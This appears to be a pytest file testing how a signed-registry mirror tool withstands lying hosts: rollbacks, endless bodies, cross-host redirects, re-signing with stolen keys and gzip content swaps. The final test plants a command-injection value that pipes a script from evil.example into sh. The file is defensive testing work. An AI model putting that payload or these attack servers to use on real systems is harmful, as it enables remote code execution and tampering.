"""Hosts that lie to `pull` and `verify-mirror`: a mirror never goes back, and a lie costs little."""

import gzip
import hashlib
import json
import shutil
from collections.abc import Callable
from http.server import SimpleHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from seqfacility_registry.cli import main
from seqfacility_registry.conformance.mirror import Failed, open_mirror
from seqfacility_registry.conformance.report import Outcome
from seqfacility_registry.conformance.signed import check_documents, read_signed_side
from seqfacility_registry.conformance.verify import verify_mirror
from seqfacility_registry.content_folder import read_publication
from seqfacility_registry.export import export
from seqfacility_registry.trust.keys import read_signer
from seqfacility_testkit.signed_registry import SignedRegistry, run, sign_registry
from tuf.api.metadata import Metadata, Targets

PUBLIC_URL = "http://mirror.example/api"
Serve = Callable[[Path], str]
ServeWithLies = Callable[[Path, Callable[[SimpleHTTPRequestHandler], bool]], str]
KIB = 1024
MIB = 1024 * KIB


@pytest.fixture
def signed(content: Path, tmp_path: Path) -> SignedRegistry:
    return sign_registry(content, tmp_path / "keys")


@pytest.fixture
def mirror(signed: SignedRegistry, tmp_path: Path) -> Path:
    return exported(tmp_path / "mirror", signed)


@pytest.fixture
def place(tmp_path: Path) -> Path:
    (tmp_path / "copies").mkdir()
    return tmp_path / "copies" / "site"


def exported(folder: Path, registry: SignedRegistry, address: str = PUBLIC_URL) -> Path:
    export(read_publication(registry.content), address, folder)
    return folder


def pull(url: str, place: Path, root: Path) -> str:
    return run("pull", url, place, "--root", root, "--public-url", PUBLIC_URL)


def tree(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def replace_online_keys(registry: SignedRegistry) -> None:
    """Publish under another release key and another online key, which root 2 names."""
    for name in ("new-snapshot", "new-timestamp"):
        registry.make_key(name)
    keys = ["--snapshot-key", registry.public_key("new-snapshot")]
    registry.new_root(*keys, "--timestamp-key", registry.public_key("new-timestamp"))
    run("sign", registry.content, "--role", "snapshot", "--key", registry.key("new-snapshot"))
    run("timestamp", registry.content, "--key", registry.key("new-timestamp"))


def failures(url: str, registry: SignedRegistry, previous: Any = None) -> list[tuple[str, str]]:
    report = verify_mirror(url, previous, registry.root_file.read_bytes())
    return [(row.name, row.detail) for row in report.results if row.outcome is Outcome.FAIL]


def test_a_second_pull_of_one_process_leaves_a_whole_mirror(
    mirror: Path, signed: SignedRegistry, place: Path, serve_folder: Serve
) -> None:
    url = serve_folder(mirror)
    for _ in range(3):  # the same process number and the same publication each time
        pull(url, place, signed.root_file)

        assert tree(place) == tree(mirror)
    assert (place.stat().st_mode & 0o777) == (mirror.stat().st_mode & 0o777)


def test_a_pull_that_another_one_has_overtaken_changes_nothing(
    mirror: Path, signed: SignedRegistry, tmp_path: Path, place: Path, serve_with_lies: ServeWithLies
) -> None:
    newer, overtaken = tmp_path / "newer", []

    def overtake(request: SimpleHTTPRequestHandler) -> bool:
        if "/trust/documents/" in request.path and not overtaken:
            overtaken.append(request.path)
            signed.timestamp()
            exported(newer, signed)
            pull(serve_with_lies(newer, lambda _request: False), place, signed.root_file)
        return False

    with pytest.raises(AssertionError, match=r"another pull has replaced .* meanwhile"):
        pull(serve_with_lies(mirror, overtake), place, signed.root_file)

    assert tree(place) == tree(newer)
    assert len(list(place.parent.iterdir())) == 2


def test_old_keys_do_not_take_a_mirror_back_behind_a_rotation(
    mirror: Path, signed: SignedRegistry, tmp_path: Path, place: Path, serve_folder: Serve
) -> None:
    old = serve_folder(mirror)
    pull(old, place, signed.root_file)
    replace_online_keys(signed)
    pull(serve_folder(exported(tmp_path / "rotated", signed)), place, signed.root_file)
    rotated = tree(place)
    assert "api/trust/root.2.json" in rotated

    with pytest.raises(AssertionError, match="a signature is not valid"):
        pull(old, place, signed.root_file)
    assert tree(place) == rotated

    (place / "api/trust/root.2.json").write_text("damaged")
    with pytest.raises(AssertionError, match="has root 2, and this host leads to root 1"):
        pull(old, place, signed.root_file)


def test_a_copy_that_other_roots_vouch_for_is_not_replaced(
    mirror: Path,
    signed: SignedRegistry,
    tmp_path: Path,
    place: Path,
    serve_folder: Serve,
    write_content: Callable[[Path], Path],
) -> None:
    other = sign_registry(write_content(tmp_path / "theirs"), tmp_path / "their-keys")
    pull(serve_folder(mirror), place, signed.root_file)

    with pytest.raises(AssertionError, match="was made under other roots"):
        pull(serve_folder(exported(tmp_path / "other", other)), place, other.root_file)

    assert tree(place) == tree(mirror)
    (place / "api/trust/timestamp.json").write_text("{")
    with pytest.raises(AssertionError, match=r"what .* has seen cannot be read"):
        pull(serve_folder(mirror), place, signed.root_file)


def test_a_copy_keeps_the_roots_before_the_one_that_is_given(
    mirror: Path, signed: SignedRegistry, tmp_path: Path, place: Path, serve_folder: Serve
) -> None:
    pull(serve_folder(mirror), place, signed.root_file)
    signed.new_root()
    signed.timestamp()

    url = serve_folder(exported(tmp_path / "rotated", signed))
    pull(url, place, signed.content / "trust" / "root.2.json")

    assert {"api/trust/root.1.json", "api/trust/root.2.json"} <= set(tree(place))
    assert failures(serve_folder(place), signed) == []


def endless(request: SimpleHTTPRequestHandler, status: int = 200, **headers: str) -> int:
    """Answer with a body that never ends; return how much was sent before the client hung up."""
    request.send_response(status)
    for name, value in headers.items():
        request.send_header(name, value)
    request.end_headers()
    sent = 0
    try:
        while sent < 512 * MIB:
            sent += request.wfile.write(b" " * MIB)
    except OSError:
        request.close_connection = True
    return sent


@pytest.mark.parametrize("command", ["pull", "verify-mirror"])
def test_the_endless_body_of_a_redirect_is_not_read(
    mirror: Path,
    signed: SignedRegistry,
    place: Path,
    serve_with_lies: ServeWithLies,
    command: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    sent: list[int] = []

    def redirect(request: SimpleHTTPRequestHandler) -> bool:
        is_asked = request.path.endswith("/trust/timestamp.json")
        if is_asked:
            sent.append(endless(request, 302, Location="/nowhere"))
        return is_asked

    url = serve_with_lies(mirror, redirect)
    arguments = [command, url, *([str(place)] if command == "pull" else [])]

    assert main([*arguments, "--root", str(signed.root_file)]) == 1

    said = capsys.readouterr()
    assert "GET /trust/timestamp.json: status 404" in said.out + said.err
    assert max(sent) < 64 * MIB  # what lies in buffers


def test_what_is_signed_is_not_taken_from_another_host(
    mirror: Path, signed: SignedRegistry, place: Path, serve_folder: Serve, serve_with_lies: ServeWithLies
) -> None:
    other = serve_folder(mirror)

    def redirect(request: SimpleHTTPRequestHandler) -> bool:
        is_asked = "/trust/documents/" in request.path
        if is_asked:
            request.send_response(302)
            request.send_header("Location", f"{other}{request.path}")
            request.end_headers()
        return is_asked

    with pytest.raises(AssertionError, match="is redirected to another host"):
        pull(serve_with_lies(mirror, redirect), place, signed.root_file)


def test_no_more_is_read_of_a_document_than_is_signed(
    mirror: Path, signed: SignedRegistry, serve_with_lies: ServeWithLies
) -> None:
    document = next((mirror / "api/trust/documents").glob("*.json"))

    def lie(request: SimpleHTTPRequestHandler) -> bool:
        return request.path.endswith(document.name) and endless(request) > 0

    host = open_mirror(serve_with_lies(mirror, lie))
    side = read_signed_side(host, signed.root_file.read_bytes())
    with pytest.raises(Failed) as failed:
        check_documents(host, side)

    length = document.stat().st_size + 1
    assert str(failed.value) == f"GET /trust/documents/{document.name}: more than {length} bytes"


def test_a_stolen_online_key_makes_nobody_read_without_end(
    mirror: Path, signed: SignedRegistry, place: Path, serve_with_lies: ServeWithLies
) -> None:
    path = mirror / "api/trust/timestamp.json"
    timestamp = Metadata.from_bytes(path.read_bytes())
    timestamp.signed.snapshot_meta.length = 10**12
    timestamp.sign(read_signer(signed.key("timestamp")))
    path.write_bytes(timestamp.to_bytes())

    def lie(request: SimpleHTTPRequestHandler) -> bool:
        return request.path.endswith("/trust/snapshot.1.json") and endless(request) > 0

    with pytest.raises(AssertionError, match=f"snapshot.1.json: more than {MIB} bytes"):
        pull(serve_with_lies(mirror, lie), place, signed.root_file)


def test_a_target_that_is_signed_without_a_sha256_is_refused_in_words(
    mirror: Path, signed: SignedRegistry, place: Path, serve_folder: Serve
) -> None:
    trust = mirror / "api/trust"
    targets: Metadata[Targets] = Metadata.from_bytes((trust / "targets.1.json").read_bytes())
    path, target = next(iter(targets.signed.targets.items()))
    target.hashes = {"sha512": "a" * 128}
    sign_again(signed, trust, targets)

    with pytest.raises(AssertionError, match=f"{path}: signed without a SHA-256"):
        pull(serve_folder(mirror), place, signed.root_file)
    assert not list(place.parent.iterdir())


def sign_again(registry: SignedRegistry, trust: Path, targets: Metadata[Targets]) -> None:
    """Put other targets in the place of version 1, as whoever has stolen all keys but the roots could."""
    release, online = (read_signer(registry.key(name)) for name in ("snapshot", "timestamp"))
    targets.sign(release)
    content = targets.to_bytes()
    (trust / "targets.1.json").write_bytes(content)
    snapshot = Metadata.from_bytes((trust / "snapshot.1.json").read_bytes())
    name_file(snapshot.signed.meta["targets.json"], content)
    snapshot.sign(release)
    content = snapshot.to_bytes()
    (trust / "snapshot.1.json").write_bytes(content)
    timestamp = Metadata.from_bytes((trust / "timestamp.json").read_bytes())
    name_file(timestamp.signed.snapshot_meta, content)
    timestamp.sign(online)
    (trust / "timestamp.json").write_bytes(timestamp.to_bytes())


def name_file(meta: Any, content: bytes) -> None:
    meta.length, meta.hashes = len(content), {"sha256": hashlib.sha256(content).hexdigest()}


def test_a_withdrawal_that_is_taken_back_is_found_by_an_earlier_report(
    mirror: Path,
    signed: SignedRegistry,
    tmp_path: Path,
    serve_folder: Serve,
    capsys: pytest.CaptureFixture[str],
) -> None:
    entry = signed.content / "pipelines" / "read-counter" / "entry.json"
    document = json.loads(entry.read_text())
    document["versions"][0] |= {"status": "yanked", "yankReason": "It loses reads"}
    entry.write_text(json.dumps(document))
    signed.publish()
    newer = serve_folder(exported(tmp_path / "newer", signed))
    assert main(["verify-mirror", newer, "--json", "--root", str(signed.root_file)]) == 0
    report = tmp_path / "report.json"
    report.write_text(capsys.readouterr().out)
    compared = ("--previous", str(report), "--root", str(signed.root_file))

    assert main(["verify-mirror", newer, *compared]) == 0
    capsys.readouterr()
    assert main(["verify-mirror", serve_folder(mirror), *compared]) == 1
    assert "timestamp went from 2 to 1; snapshot went from 2 to 1" in capsys.readouterr().out
    assert main(["verify-mirror", newer, "--previous", str(report)]) == 1
    assert "these are unknown: --root is needed" in capsys.readouterr().out


def test_a_file_that_is_another_when_it_is_packed_is_found(
    mirror: Path, signed: SignedRegistry, serve_with_lies: ServeWithLies
) -> None:
    package = "/api/registry/pipelines/read-counter/1.9.0/download"

    def lie(request: SimpleHTTPRequestHandler) -> bool:
        if "gzip" not in request.headers["Accept-Encoding"] or request.path.rstrip("/") != package:
            return False
        whole = (mirror / package.strip("/") / "index.json").read_bytes()
        body = gzip.compress(whole.replace(b"Counts reads", b"Loses  reads"))
        request.send_response(200)
        for name, value in {"Content-Type": "application/json", "Content-Encoding": "gzip"}.items():
            request.send_header(name, value)
        request.send_header("Content-Length", str(len(body)))
        request.end_headers()
        request.wfile.write(body)
        return True

    assert failures(serve_with_lies(mirror, lie), signed) == [
        (
            "every listed file is there with its length and digest",
            f"1 files: {package.strip('/')}/index.json: is another file for those who ask for gzip",
        )
    ]


def test_an_address_that_a_shell_would_run_is_found(
    mirror: Path, signed: SignedRegistry, serve_folder: Serve
) -> None:
    shutil.rmtree(mirror)
    address = "http://mirror.example/api;curl${IFS}evil.example|sh;"
    exported(mirror, signed, address)

    found = dict(failures(serve_folder(mirror), signed))

    assert found["every answer says what is signed"] == f"baseUrl is no address: '{address}/registry'"
